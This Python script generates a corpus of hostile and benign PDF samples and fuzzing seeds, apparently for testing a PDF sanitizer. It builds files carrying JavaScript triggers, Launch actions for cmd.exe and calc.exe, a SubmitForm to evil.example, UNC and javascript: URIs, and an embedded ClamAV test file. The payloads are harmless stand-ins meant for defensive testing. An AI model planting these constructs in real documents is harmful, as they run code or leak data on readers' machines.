#!/usr/bin/env python3
"""Make the PDF samples in corpus/pdf/ and the fuzzing seeds in corpus/seeds/pdf/.

Hostile samples are written by hand as raw PDF syntax with a correct xref
table, one construct per file, so that each test knows exactly what went in:
JavaScript in every place a viewer runs it (OpenAction, the /JavaScript name
tree, catalog/page/annotation/form-field /AA, outline items, /Next chains),
the same with #xx-escaped names, inside an object stream, added by an
incremental update; Launch, SubmitForm, ImportData, GoToR, GoToE, Rendition,
RichMediaExecute actions; URI actions with javascript:, file:, smb: and UNC
targets (and an http one that must be kept); RichMedia, Screen, Movie, Sound,
FileAttachment and 3D annotations; an EmbeddedFiles name tree carrying
clam.exe (from Debian's clamav-testfiles); an XFA form; a PostScript XObject;
user- and owner-password encryption; trailing data after %%EOF; a broken xref.

Files that need a real PDF writer (object streams, encryption) are produced
from the hand-written ones with the qpdf command (Debian package qpdf).

Benign samples: small PDFs that Debian packages ship under /usr/share/doc
(copied when present), and Japanese documents made by LibreOffice from flat
ODT files (made only when soffice is installed; the results are committed so
the tests need neither LibreOffice nor the doc packages).

Usage: corpus/make-pdf.py   (from anywhere; writes next to this script)
"""
import gzip
import os
import shutil
import subprocess
import sys
import tempfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "pdf")
SEEDS = os.path.join(HERE, "seeds", "pdf")
CLAM = "/usr/share/clamav-testfiles/clam.exe"
JS = b"app.alert('mugai test');"

CONTENT = b"BT /F1 24 Tf 72 720 Td (Hello from Mugai) Tj ET\n"


def stream(d, data):
    return b"<< " + d + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def serialize(objs, root=1, trailer_extra=b"", header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """objs: {num: body}. Returns a complete single-revision PDF."""
    out = bytearray(header)
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, trailer_extra, xref)
    return bytes(out)


def base(catalog=b"", page=b"", annots=(), extra=None, pages=1,
         resources=b"<< /Font << /F1 5 0 R >> >>"):
    """A small valid document; extra objects start at 10. Annotations are
    given as object numbers that extra defines."""
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        4: stream(b"", CONTENT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    kids = []
    for i in range(pages):
        num = 3 if i == 0 else 100 + i
        kids.append(b"%d 0 R" % num)
        a = b""
        if i == 0 and annots:
            a = b"/Annots [" + b" ".join(b"%d 0 R" % n for n in annots) + b"] "
        objs[num] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                     b"/Resources " + resources + b" /Contents 4 0 R "
                     + a + (page if i == 0 else b"") + b">>")
    objs[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % pages
    objs.update(extra or {})
    return objs


def link(action, rect=b"[72 700 300 730]"):
    return b"<< /Type /Annot /Subtype /Link /Rect " + rect + b" /Border [0 0 0] /A " + action + b" >>"


def annot(subtype, rest=b""):
    return (b"<< /Type /Annot /Subtype /" + subtype + b" /Rect [72 600 200 700] " + rest + b" >>")


def js_action(js=JS):
    return b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>"


def qpdf(args, data):
    with tempfile.TemporaryDirectory() as d:
        src, dst = os.path.join(d, "in.pdf"), os.path.join(d, "out.pdf")
        with open(src, "wb") as f:
            f.write(data)
        subprocess.run(["qpdf", "--static-id", "--static-aes-iv"] + args + [src, dst],
                       check=True)
        with open(dst, "rb") as f:
            return f.read()


def incremental(original, objs, root=1):
    """Append an update section redefining objs, chained with /Prev."""
    prev = int(original.rsplit(b"startxref", 1)[1].split()[0])
    size = int(original.split(b"/Size", 1)[1].split()[0])
    out = bytearray(original)
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(size, max(objs) + 1)
    xref = len(out)
    out += b"xref\n"
    for num in sorted(objs):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, prev, xref)
    return bytes(out)


def clam_bytes():
    with open(CLAM, "rb") as f:
        return f.read()


def samples():
    s = {}
    # --- kept: the benign hand-made baseline and the allowed actions -------
    s["plain.pdf"] = serialize(base())
    s["goto-openaction.pdf"] = serialize(base(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "))
    s["dest-openaction.pdf"] = serialize(base(catalog=b"/OpenAction [3 0 R /XYZ 0 792 0] "))
    s["uri-http.pdf"] = serialize(base(annots=[10, 11, 12], extra={
        10: link(b"<< /S /URI /URI (https://www.example.jp/) >>"),
        11: link(b"<< /S /URI /URI (http://www.example.jp/a?b=c) /Next << /S /Named /N /NextPage >> >>",
                 b"[72 650 300 680]"),
        12: link(b"<< /S /URI /URI (mailto:zeimu@example.jp) >>", b"[72 600 300 630]")}))

    # --- JavaScript ------------------------------------------------------
    s["js-openaction.pdf"] = serialize(base(catalog=b"/OpenAction 10 0 R ",
                                            extra={10: js_action()}))
    s["js-escaped.pdf"] = serialize(base(
        catalog=b"/OpenAction << /S /J#61vaScript /J#53 (" + JS + b") >> "
                b"/N#61mes << /J#61v#61Script 10 0 R >> ",
        extra={10: b"<< /Names [(x) << /S /J#61v#61Script /J#53 11 0 R >>] >>",
               11: stream(b"", JS)}))
    s["js-names.pdf"] = serialize(base(
        catalog=b"/Names << /JavaScript 10 0 R /Dests 12 0 R >> ",
        extra={10: b"<< /Names [(init) 11 0 R] >>", 11: js_action(),
               12: b"<< /Names [(top) [3 0 R /Fit]] >>"}))
    s["js-objstm.pdf"] = qpdf(["--object-streams=generate", "--compress-streams=y"],
                              serialize(base(catalog=b"/OpenAction 10 0 R ",
                                             annots=[11],
                                             extra={10: js_action(),
                                                    11: link(b"12 0 R"),
                                                    12: js_action(b"this.print();")})))
    s["incremental-openaction.pdf"] = incremental(
        serialize(base()),
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 20 0 R >>", 20: js_action()})
    s["catalog-aa.pdf"] = serialize(base(
        catalog=b"/AA << /WC 10 0 R /WS 10 0 R /DS 10 0 R /WP 10 0 R /DP 10 0 R >> ",
        extra={10: js_action()}))
    s["page-aa.pdf"] = serialize(base(page=b"/AA << /O 10 0 R /C << /S /Launch /F (calc.exe) >> >> ",
                                      extra={10: js_action()}))
    s["annot-aa.pdf"] = serialize(base(annots=[11], extra={
        10: js_action(),
        11: annot(b"Square", b"/AA << /E 10 0 R /X 10 0 R /D 10 0 R /U 10 0 R /Fo 10 0 R "
                  b"/Bl 10 0 R /PO 10 0 R /PC 10 0 R /PV 10 0 R /PI 10 0 R >>")}))
    s["outline-js.pdf"] = serialize(base(
        catalog=b"/Outlines 10 0 R /PageMode /UseOutlines ",
        extra={10: b"<< /Type /Outlines /First 11 0 R /Last 12 0 R /Count 2 >>",
               11: b"<< /Title (Start) /Parent 10 0 R /Next 12 0 R /A " + js_action() + b" >>",
               12: b"<< /Title (Page 1) /Parent 10 0 R /Prev 11 0 R /Dest [3 0 R /Fit] >>"}))
    s["next-launch.pdf"] = serialize(base(annots=[10], extra={
        10: link(b"<< /S /GoTo /D [3 0 R /Fit] /Next [11 0 R << /S /Named /N /FirstPage "
                 b"/Next << /S /Launch /F (cmd.exe) >> >>] >>"),
        11: b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"}))

    # --- other action types --------------------------------------------------
    acts = {
        "launch": b"<< /S /Launch /F << /Type /Filespec /F (evil.exe) >> /NewWindow true >>",
        "submitform": b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> /Flags 4 >>",
        "importdata": b"<< /S /ImportData /F (data.fdf) >>",
        "gotor": b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] /NewWindow true >>",
        "gotoe": b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>",
        "rendition": b"<< /S /Rendition /OP 0 /JS (" + JS + b") >>",
        "richmediaexecute": b"<< /S /RichMediaExecute /TA 11 0 R /CMD << /C (play) >> >>",
        "uri-javascript": b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>",
        "uri-file": b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
        "uri-smb": b"<< /S /URI /URI (smb://evil.example/share) >>",
        "uri-unc": b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>",
        "uri-hex-upper": b"<< /S /URI /URI <4A4156415343524950543A616C657274283129> >>",
        "uri-space": b"<< /S /URI /URI ( javascript:alert\\(1\\)) >>",
        "named-print": b"<< /S /Named /N /Print >>",
    }
    for name, act in acts.items():
        extra = {10: link(act)}
        if name == "richmediaexecute":
            extra[11] = annot(b"RichMedia")
        s["action-" + name + ".pdf"] = serialize(base(annots=[10], extra=extra))

    # --- annotations that play or carry content ------------------------------
    s["annot-richmedia.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"RichMedia", b"/RichMediaContent << /Assets << /Names [(a.swf) 11 0 R] >> >>"),
        11: b"<< /Type /Filespec /F (a.swf) /EF << /F 12 0 R >> >>",
        12: stream(b"/Type /EmbeddedFile", b"FWS\x0a\x00\x00\x00\x00")}))
    s["annot-screen.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"Screen", b"/A << /S /Rendition /OP 0 /AN 10 0 R >>")}))
    s["annot-movie.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"Movie", b"/Movie << /F (movie.avi) >>")}))
    s["annot-sound.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"Sound", b"/Sound 11 0 R"),
        11: stream(b"/Type /Sound /R 8000", b"\x00" * 64)}))
    s["annot-3d.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"3D", b"/3DD 11 0 R"),
        11: stream(b"/Type /3D /Subtype /U3D", b"U3D\x00")}))
    clam = clam_bytes()
    s["annot-fileattachment.pdf"] = serialize(base(annots=[10], extra={
        10: annot(b"FileAttachment", b"/FS 11 0 R /Name /PushPin"),
        11: b"<< /Type /Filespec /F (clam.exe) /UF (clam.exe) /EF << /F 12 0 R >> >>",
        12: stream(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(clam))}))
    s["embedded-clam.pdf"] = serialize(base(
        catalog=b"/Names << /EmbeddedFiles << /Names [(clam.exe) 10 0 R] >> >> /PageMode /UseAttachments ",
        extra={10: b"<< /Type /Filespec /F (clam.exe) /UF (clam.exe) /EF << /F 11 0 R >> >>",
               11: stream(b"/Type /EmbeddedFile /Subtype /application#2Fx-msdownload "
                          b"/Filter /FlateDecode", zlib.compress(clam))}))
    s["xfa.pdf"] = serialize(base(
        catalog=b"/AcroForm << /Fields [10 0 R] /XFA [(template) 11 0 R] >> /NeedsRendering true ",
        annots=[10],
        extra={10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] "
                   b"/AA << /K << /S /JavaScript /JS (event.value='x';) >> >> "
                   b"/A << /S /SubmitForm /F (http://evil.example/) >> >>",
               11: stream(b"", b"<template><script>app.alert(1)</script></template>")}))
    s["ps-xobject.pdf"] = serialize(base(
        resources=b"<< /Font << /F1 5 0 R >> /XObject << /P0 10 0 R >> >>",
        extra={10: stream(b"/Type /XObject /Subtype /PS", b"(hello) print")}))
    objs = base(extra={10: js_action()})
    s["trailer-key.pdf"] = serialize(objs, trailer_extra=b"/OpenAction 10 0 R /Evil 10 0 R ")

    # --- encryption ----------------------------------------------------------
    plain = serialize(base(catalog=b"/OpenAction 10 0 R ", extra={10: js_action()}))
    s["encrypted-user.pdf"] = qpdf(["--encrypt", "user", "owner", "256", "--"], plain)
    s["encrypted-owner.pdf"] = qpdf(["--encrypt", "", "owner", "256", "--"], plain)
    s["encrypted-rc4-owner.pdf"] = qpdf(["--allow-weak-crypto", "--encrypt", "", "owner", "128",
                                         "--use-aes=n", "--"], plain)

    # --- damaged files qpdf repairs ---------------------------------------------
    pk = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + b"\x00" * 16 + b"evil.js" + JS
    s["trailing-data.pdf"] = serialize(base()) + pk
    good = serialize(base(catalog=b"/OpenAction 10 0 R ", extra={10: js_action()}))
    # Every xref offset off by 5 and startxref pointing nowhere: qpdf rebuilds
    # the table by scanning for "N 0 obj".
    head, tail = good.split(b"xref\n", 1)
    lines = tail.split(b"\n")
    for i, ln in enumerate(lines):
        if ln.endswith(b" 00000 n "):
            lines[i] = b"%010d 00000 n " % (int(ln[:10]) + 5)
    broken = head + b"xref\n" + b"\n".join(lines)
    s["broken-xref.pdf"] = broken.replace(b"startxref\n%d" % len(head), b"startxref\n%d" % (len(head) + 3))
    s["no-xref.pdf"] = good.split(b"xref\n", 1)[0] + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"

    # --- everything at once, with escapes, in an object stream --------------
    s["everything.pdf"] = qpdf(["--object-streams=generate"], serialize(base(
        catalog=b"/OpenAction 10 0 R /AA << /WC 10 0 R >> /N#61mes << /JavaScript 11 0 R "
                b"/EmbeddedFiles 12 0 R >> /AcroForm << /Fields [] /XFA 14 0 R >> ",
        page=b"/A#41 << /O << /S /Launch /F (x.exe) >> >> ",
        annots=[15, 16, 17],
        extra={10: js_action(),
               11: b"<< /Names [(a) 10 0 R] >>",
               12: b"<< /Names [(clam.exe) 13 0 R] >>",
               13: b"<< /Type /Filespec /F (clam.exe) /EF << /F 18 0 R >> >>",
               14: stream(b"", b"<xdp/>"),
               15: link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
               16: annot(b"FileAttachment", b"/FS 13 0 R"),
               17: link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F (x.pdf) /D [0 /Fit] >> >>",
                        b"[72 500 300 530]"),
               18: stream(b"/Type /EmbeddedFile", clam)})))
    s["multipage.pdf"] = serialize(base(pages=3))
    # Actions and annotations where no viewer looks, and unknown kinds where
    # one does: known-bad kinds go wherever they are, unknown ones go where
    # the allowlists apply.
    s["hidden-kinds.pdf"] = serialize(base(
        page=b"/Foo << /S /Launch /F (x.exe) >> /Bar 10 0 R ",
        annots=[11, 12],
        extra={10: js_action(),
               11: annot(b"Frobnicate"),
               12: link(b"<< /S /Frobnicate /Target (x) >>", b"[72 500 300 530]")}))
    # Objects nothing refers to (one of them a script): not written.
    s["orphan.pdf"] = serialize(base(extra={
        10: b"<< /Marker (MUGAI-ORPHAN-MARKER) >>", 11: js_action()}))
    # An image XObject: kept as it is, not re-encoded.
    pixels = bytes((x * 32) & 255 for y in range(8) for x in range(8) for _ in range(3))
    objs = base(extra={10: stream(b"/Type /XObject /Subtype /Image /Width 8 /Height 8 "
                                  b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
                                  zlib.compress(pixels, 9))},
                resources=b"<< /Font << /F1 5 0 R >> /XObject << /Im0 10 0 R >> >>")
    objs[4] = stream(b"", CONTENT + b"q 64 0 0 64 72 600 cm /Im0 Do Q\n")
    s["image.pdf"] = serialize(objs)
    # A non-embedded Japanese font with a predefined Shift_JIS CMap, as older
    # Japanese PDFs have: text extraction needs poppler's CMap data files.
    objs = base(extra={
        10: b"<< /Type /Font /Subtype /Type0 /BaseFont /MS-Mincho /Encoding /90ms-RKSJ-H "
            b"/DescendantFonts [11 0 R] >>",
        11: b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /MS-Mincho /CIDSystemInfo "
            b"<< /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 12 0 R "
            b"/DW 1000 >>",
        12: b"<< /Type /FontDescriptor /FontName /MS-Mincho /Flags 6 /FontBBox [0 -141 1000 859] "
            b"/ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 700 /StemV 80 >>"},
        resources=b"<< /Font << /F1 10 0 R >> >>")
    objs[4] = stream(b"", b"BT /F1 24 Tf 72 720 Td <93FA967B8CEA> Tj ET\n")
    s["ja-sjis-cmap.pdf"] = serialize(objs)
    return s


# --- benign real-world samples ---------------------------------------------
DOCS = [
    "/usr/share/doc/optipng/optipng.man.pdf.gz",
    "/usr/share/doc/fontconfig/fontconfig-user.pdf.gz",
    "/usr/share/doc/shared-mime-info/shared-mime-info-spec.pdf",
    "/usr/share/doc/bzip2/manual.pdf.gz",
    "/usr/share/doc/camlidl/camlidl-1.04.doc.pdf",
]

FODT_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
<office:automatic-styles>
<style:style style:name="PB" style:family="paragraph"><style:paragraph-properties fo:break-before="page"/></style:style>
</office:automatic-styles>
<office:body><office:text>
"""
FODT_TAIL = "</office:text></office:body></office:document>\n"

JA_DOCS = {
    "ja-notice": FODT_HEAD + """
<text:h text:outline-level="1">住民税の納付について</text:h>
<text:p>令和六年度の住民税納付通知書を送付します。納期限までに指定の金融機関でお支払いください。</text:p>
<text:p>口座振替をご利用の方は、振替日の前日までに残高をご確認ください。</text:p>
<text:p text:style-name="PB">二ページ目：問い合わせ先は市役所税務課（電話 012-345-6789）です。</text:p>
<text:p>詳しくは <text:a xlink:type="simple" xlink:href="https://www.example.jp/zei/">市のホームページ</text:a> をご覧ください。</text:p>
""" + FODT_TAIL,
    "ja-table": FODT_HEAD + """
<text:h text:outline-level="1">会議室予約一覧</text:h>
<table:table table:name="予約">
<table:table-column table:number-columns-repeated="3"/>
<table:table-row><table:table-cell><text:p>日付</text:p></table:table-cell><table:table-cell><text:p>部屋</text:p></table:table-cell><table:table-cell><text:p>担当課</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell><text:p>四月一日</text:p></table:table-cell><table:table-cell><text:p>第一会議室</text:p></table:table-cell><table:table-cell><text:p>総務課</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell><text:p>四月二日</text:p></table:table-cell><table:table-cell><text:p>大会議室</text:p></table:table-cell><table:table-cell><text:p>情報政策課</text:p></table:table-cell></table:table-row>
</table:table>
<text:p>半角カナ ｶﾀｶﾅ と全角英数 ＡＢＣ１２３ も含みます。</text:p>
""" + FODT_TAIL,
}


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def benign():
    for src in DOCS:
        if not os.path.exists(src):
            continue
        name = "doc-" + os.path.basename(src).replace(".gz", "")
        with (gzip.open if src.endswith(".gz") else open)(src, "rb") as f:
            write(os.path.join(OUT, name), f.read())
    soffice = shutil.which("soffice")
    if not soffice:
        print("soffice not installed: keeping the committed Japanese samples", file=sys.stderr)
        return
    with tempfile.TemporaryDirectory() as d:
        for name, text in JA_DOCS.items():
            src = os.path.join(d, name + ".fodt")
            with open(src, "w", encoding="utf-8") as f:
                f.write(text)
            subprocess.run([soffice, "--headless", "--convert-to", "pdf", "--outdir", d, src],
                           check=True, capture_output=True, env=dict(os.environ, HOME=d))
            shutil.copy(os.path.join(d, name + ".pdf"), os.path.join(OUT, name + ".pdf"))


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(SEEDS, exist_ok=True)
    for name, data in samples().items():
        write(os.path.join(OUT, name), data)
    benign()
    # Seeds: the small hand-made files (the fuzzer mutates syntax, not size).
    for name in ["plain.pdf", "js-escaped.pdf", "js-objstm.pdf", "incremental-openaction.pdf",
                 "next-launch.pdf", "action-uri-javascript.pdf", "xfa.pdf", "annot-aa.pdf",
                 "outline-js.pdf", "encrypted-owner.pdf", "broken-xref.pdf", "uri-http.pdf",
                 "annot-richmedia.pdf", "ps-xobject.pdf"]:
        shutil.copy(os.path.join(OUT, name), os.path.join(SEEDS, name))


if __name__ == "__main__":
    main()
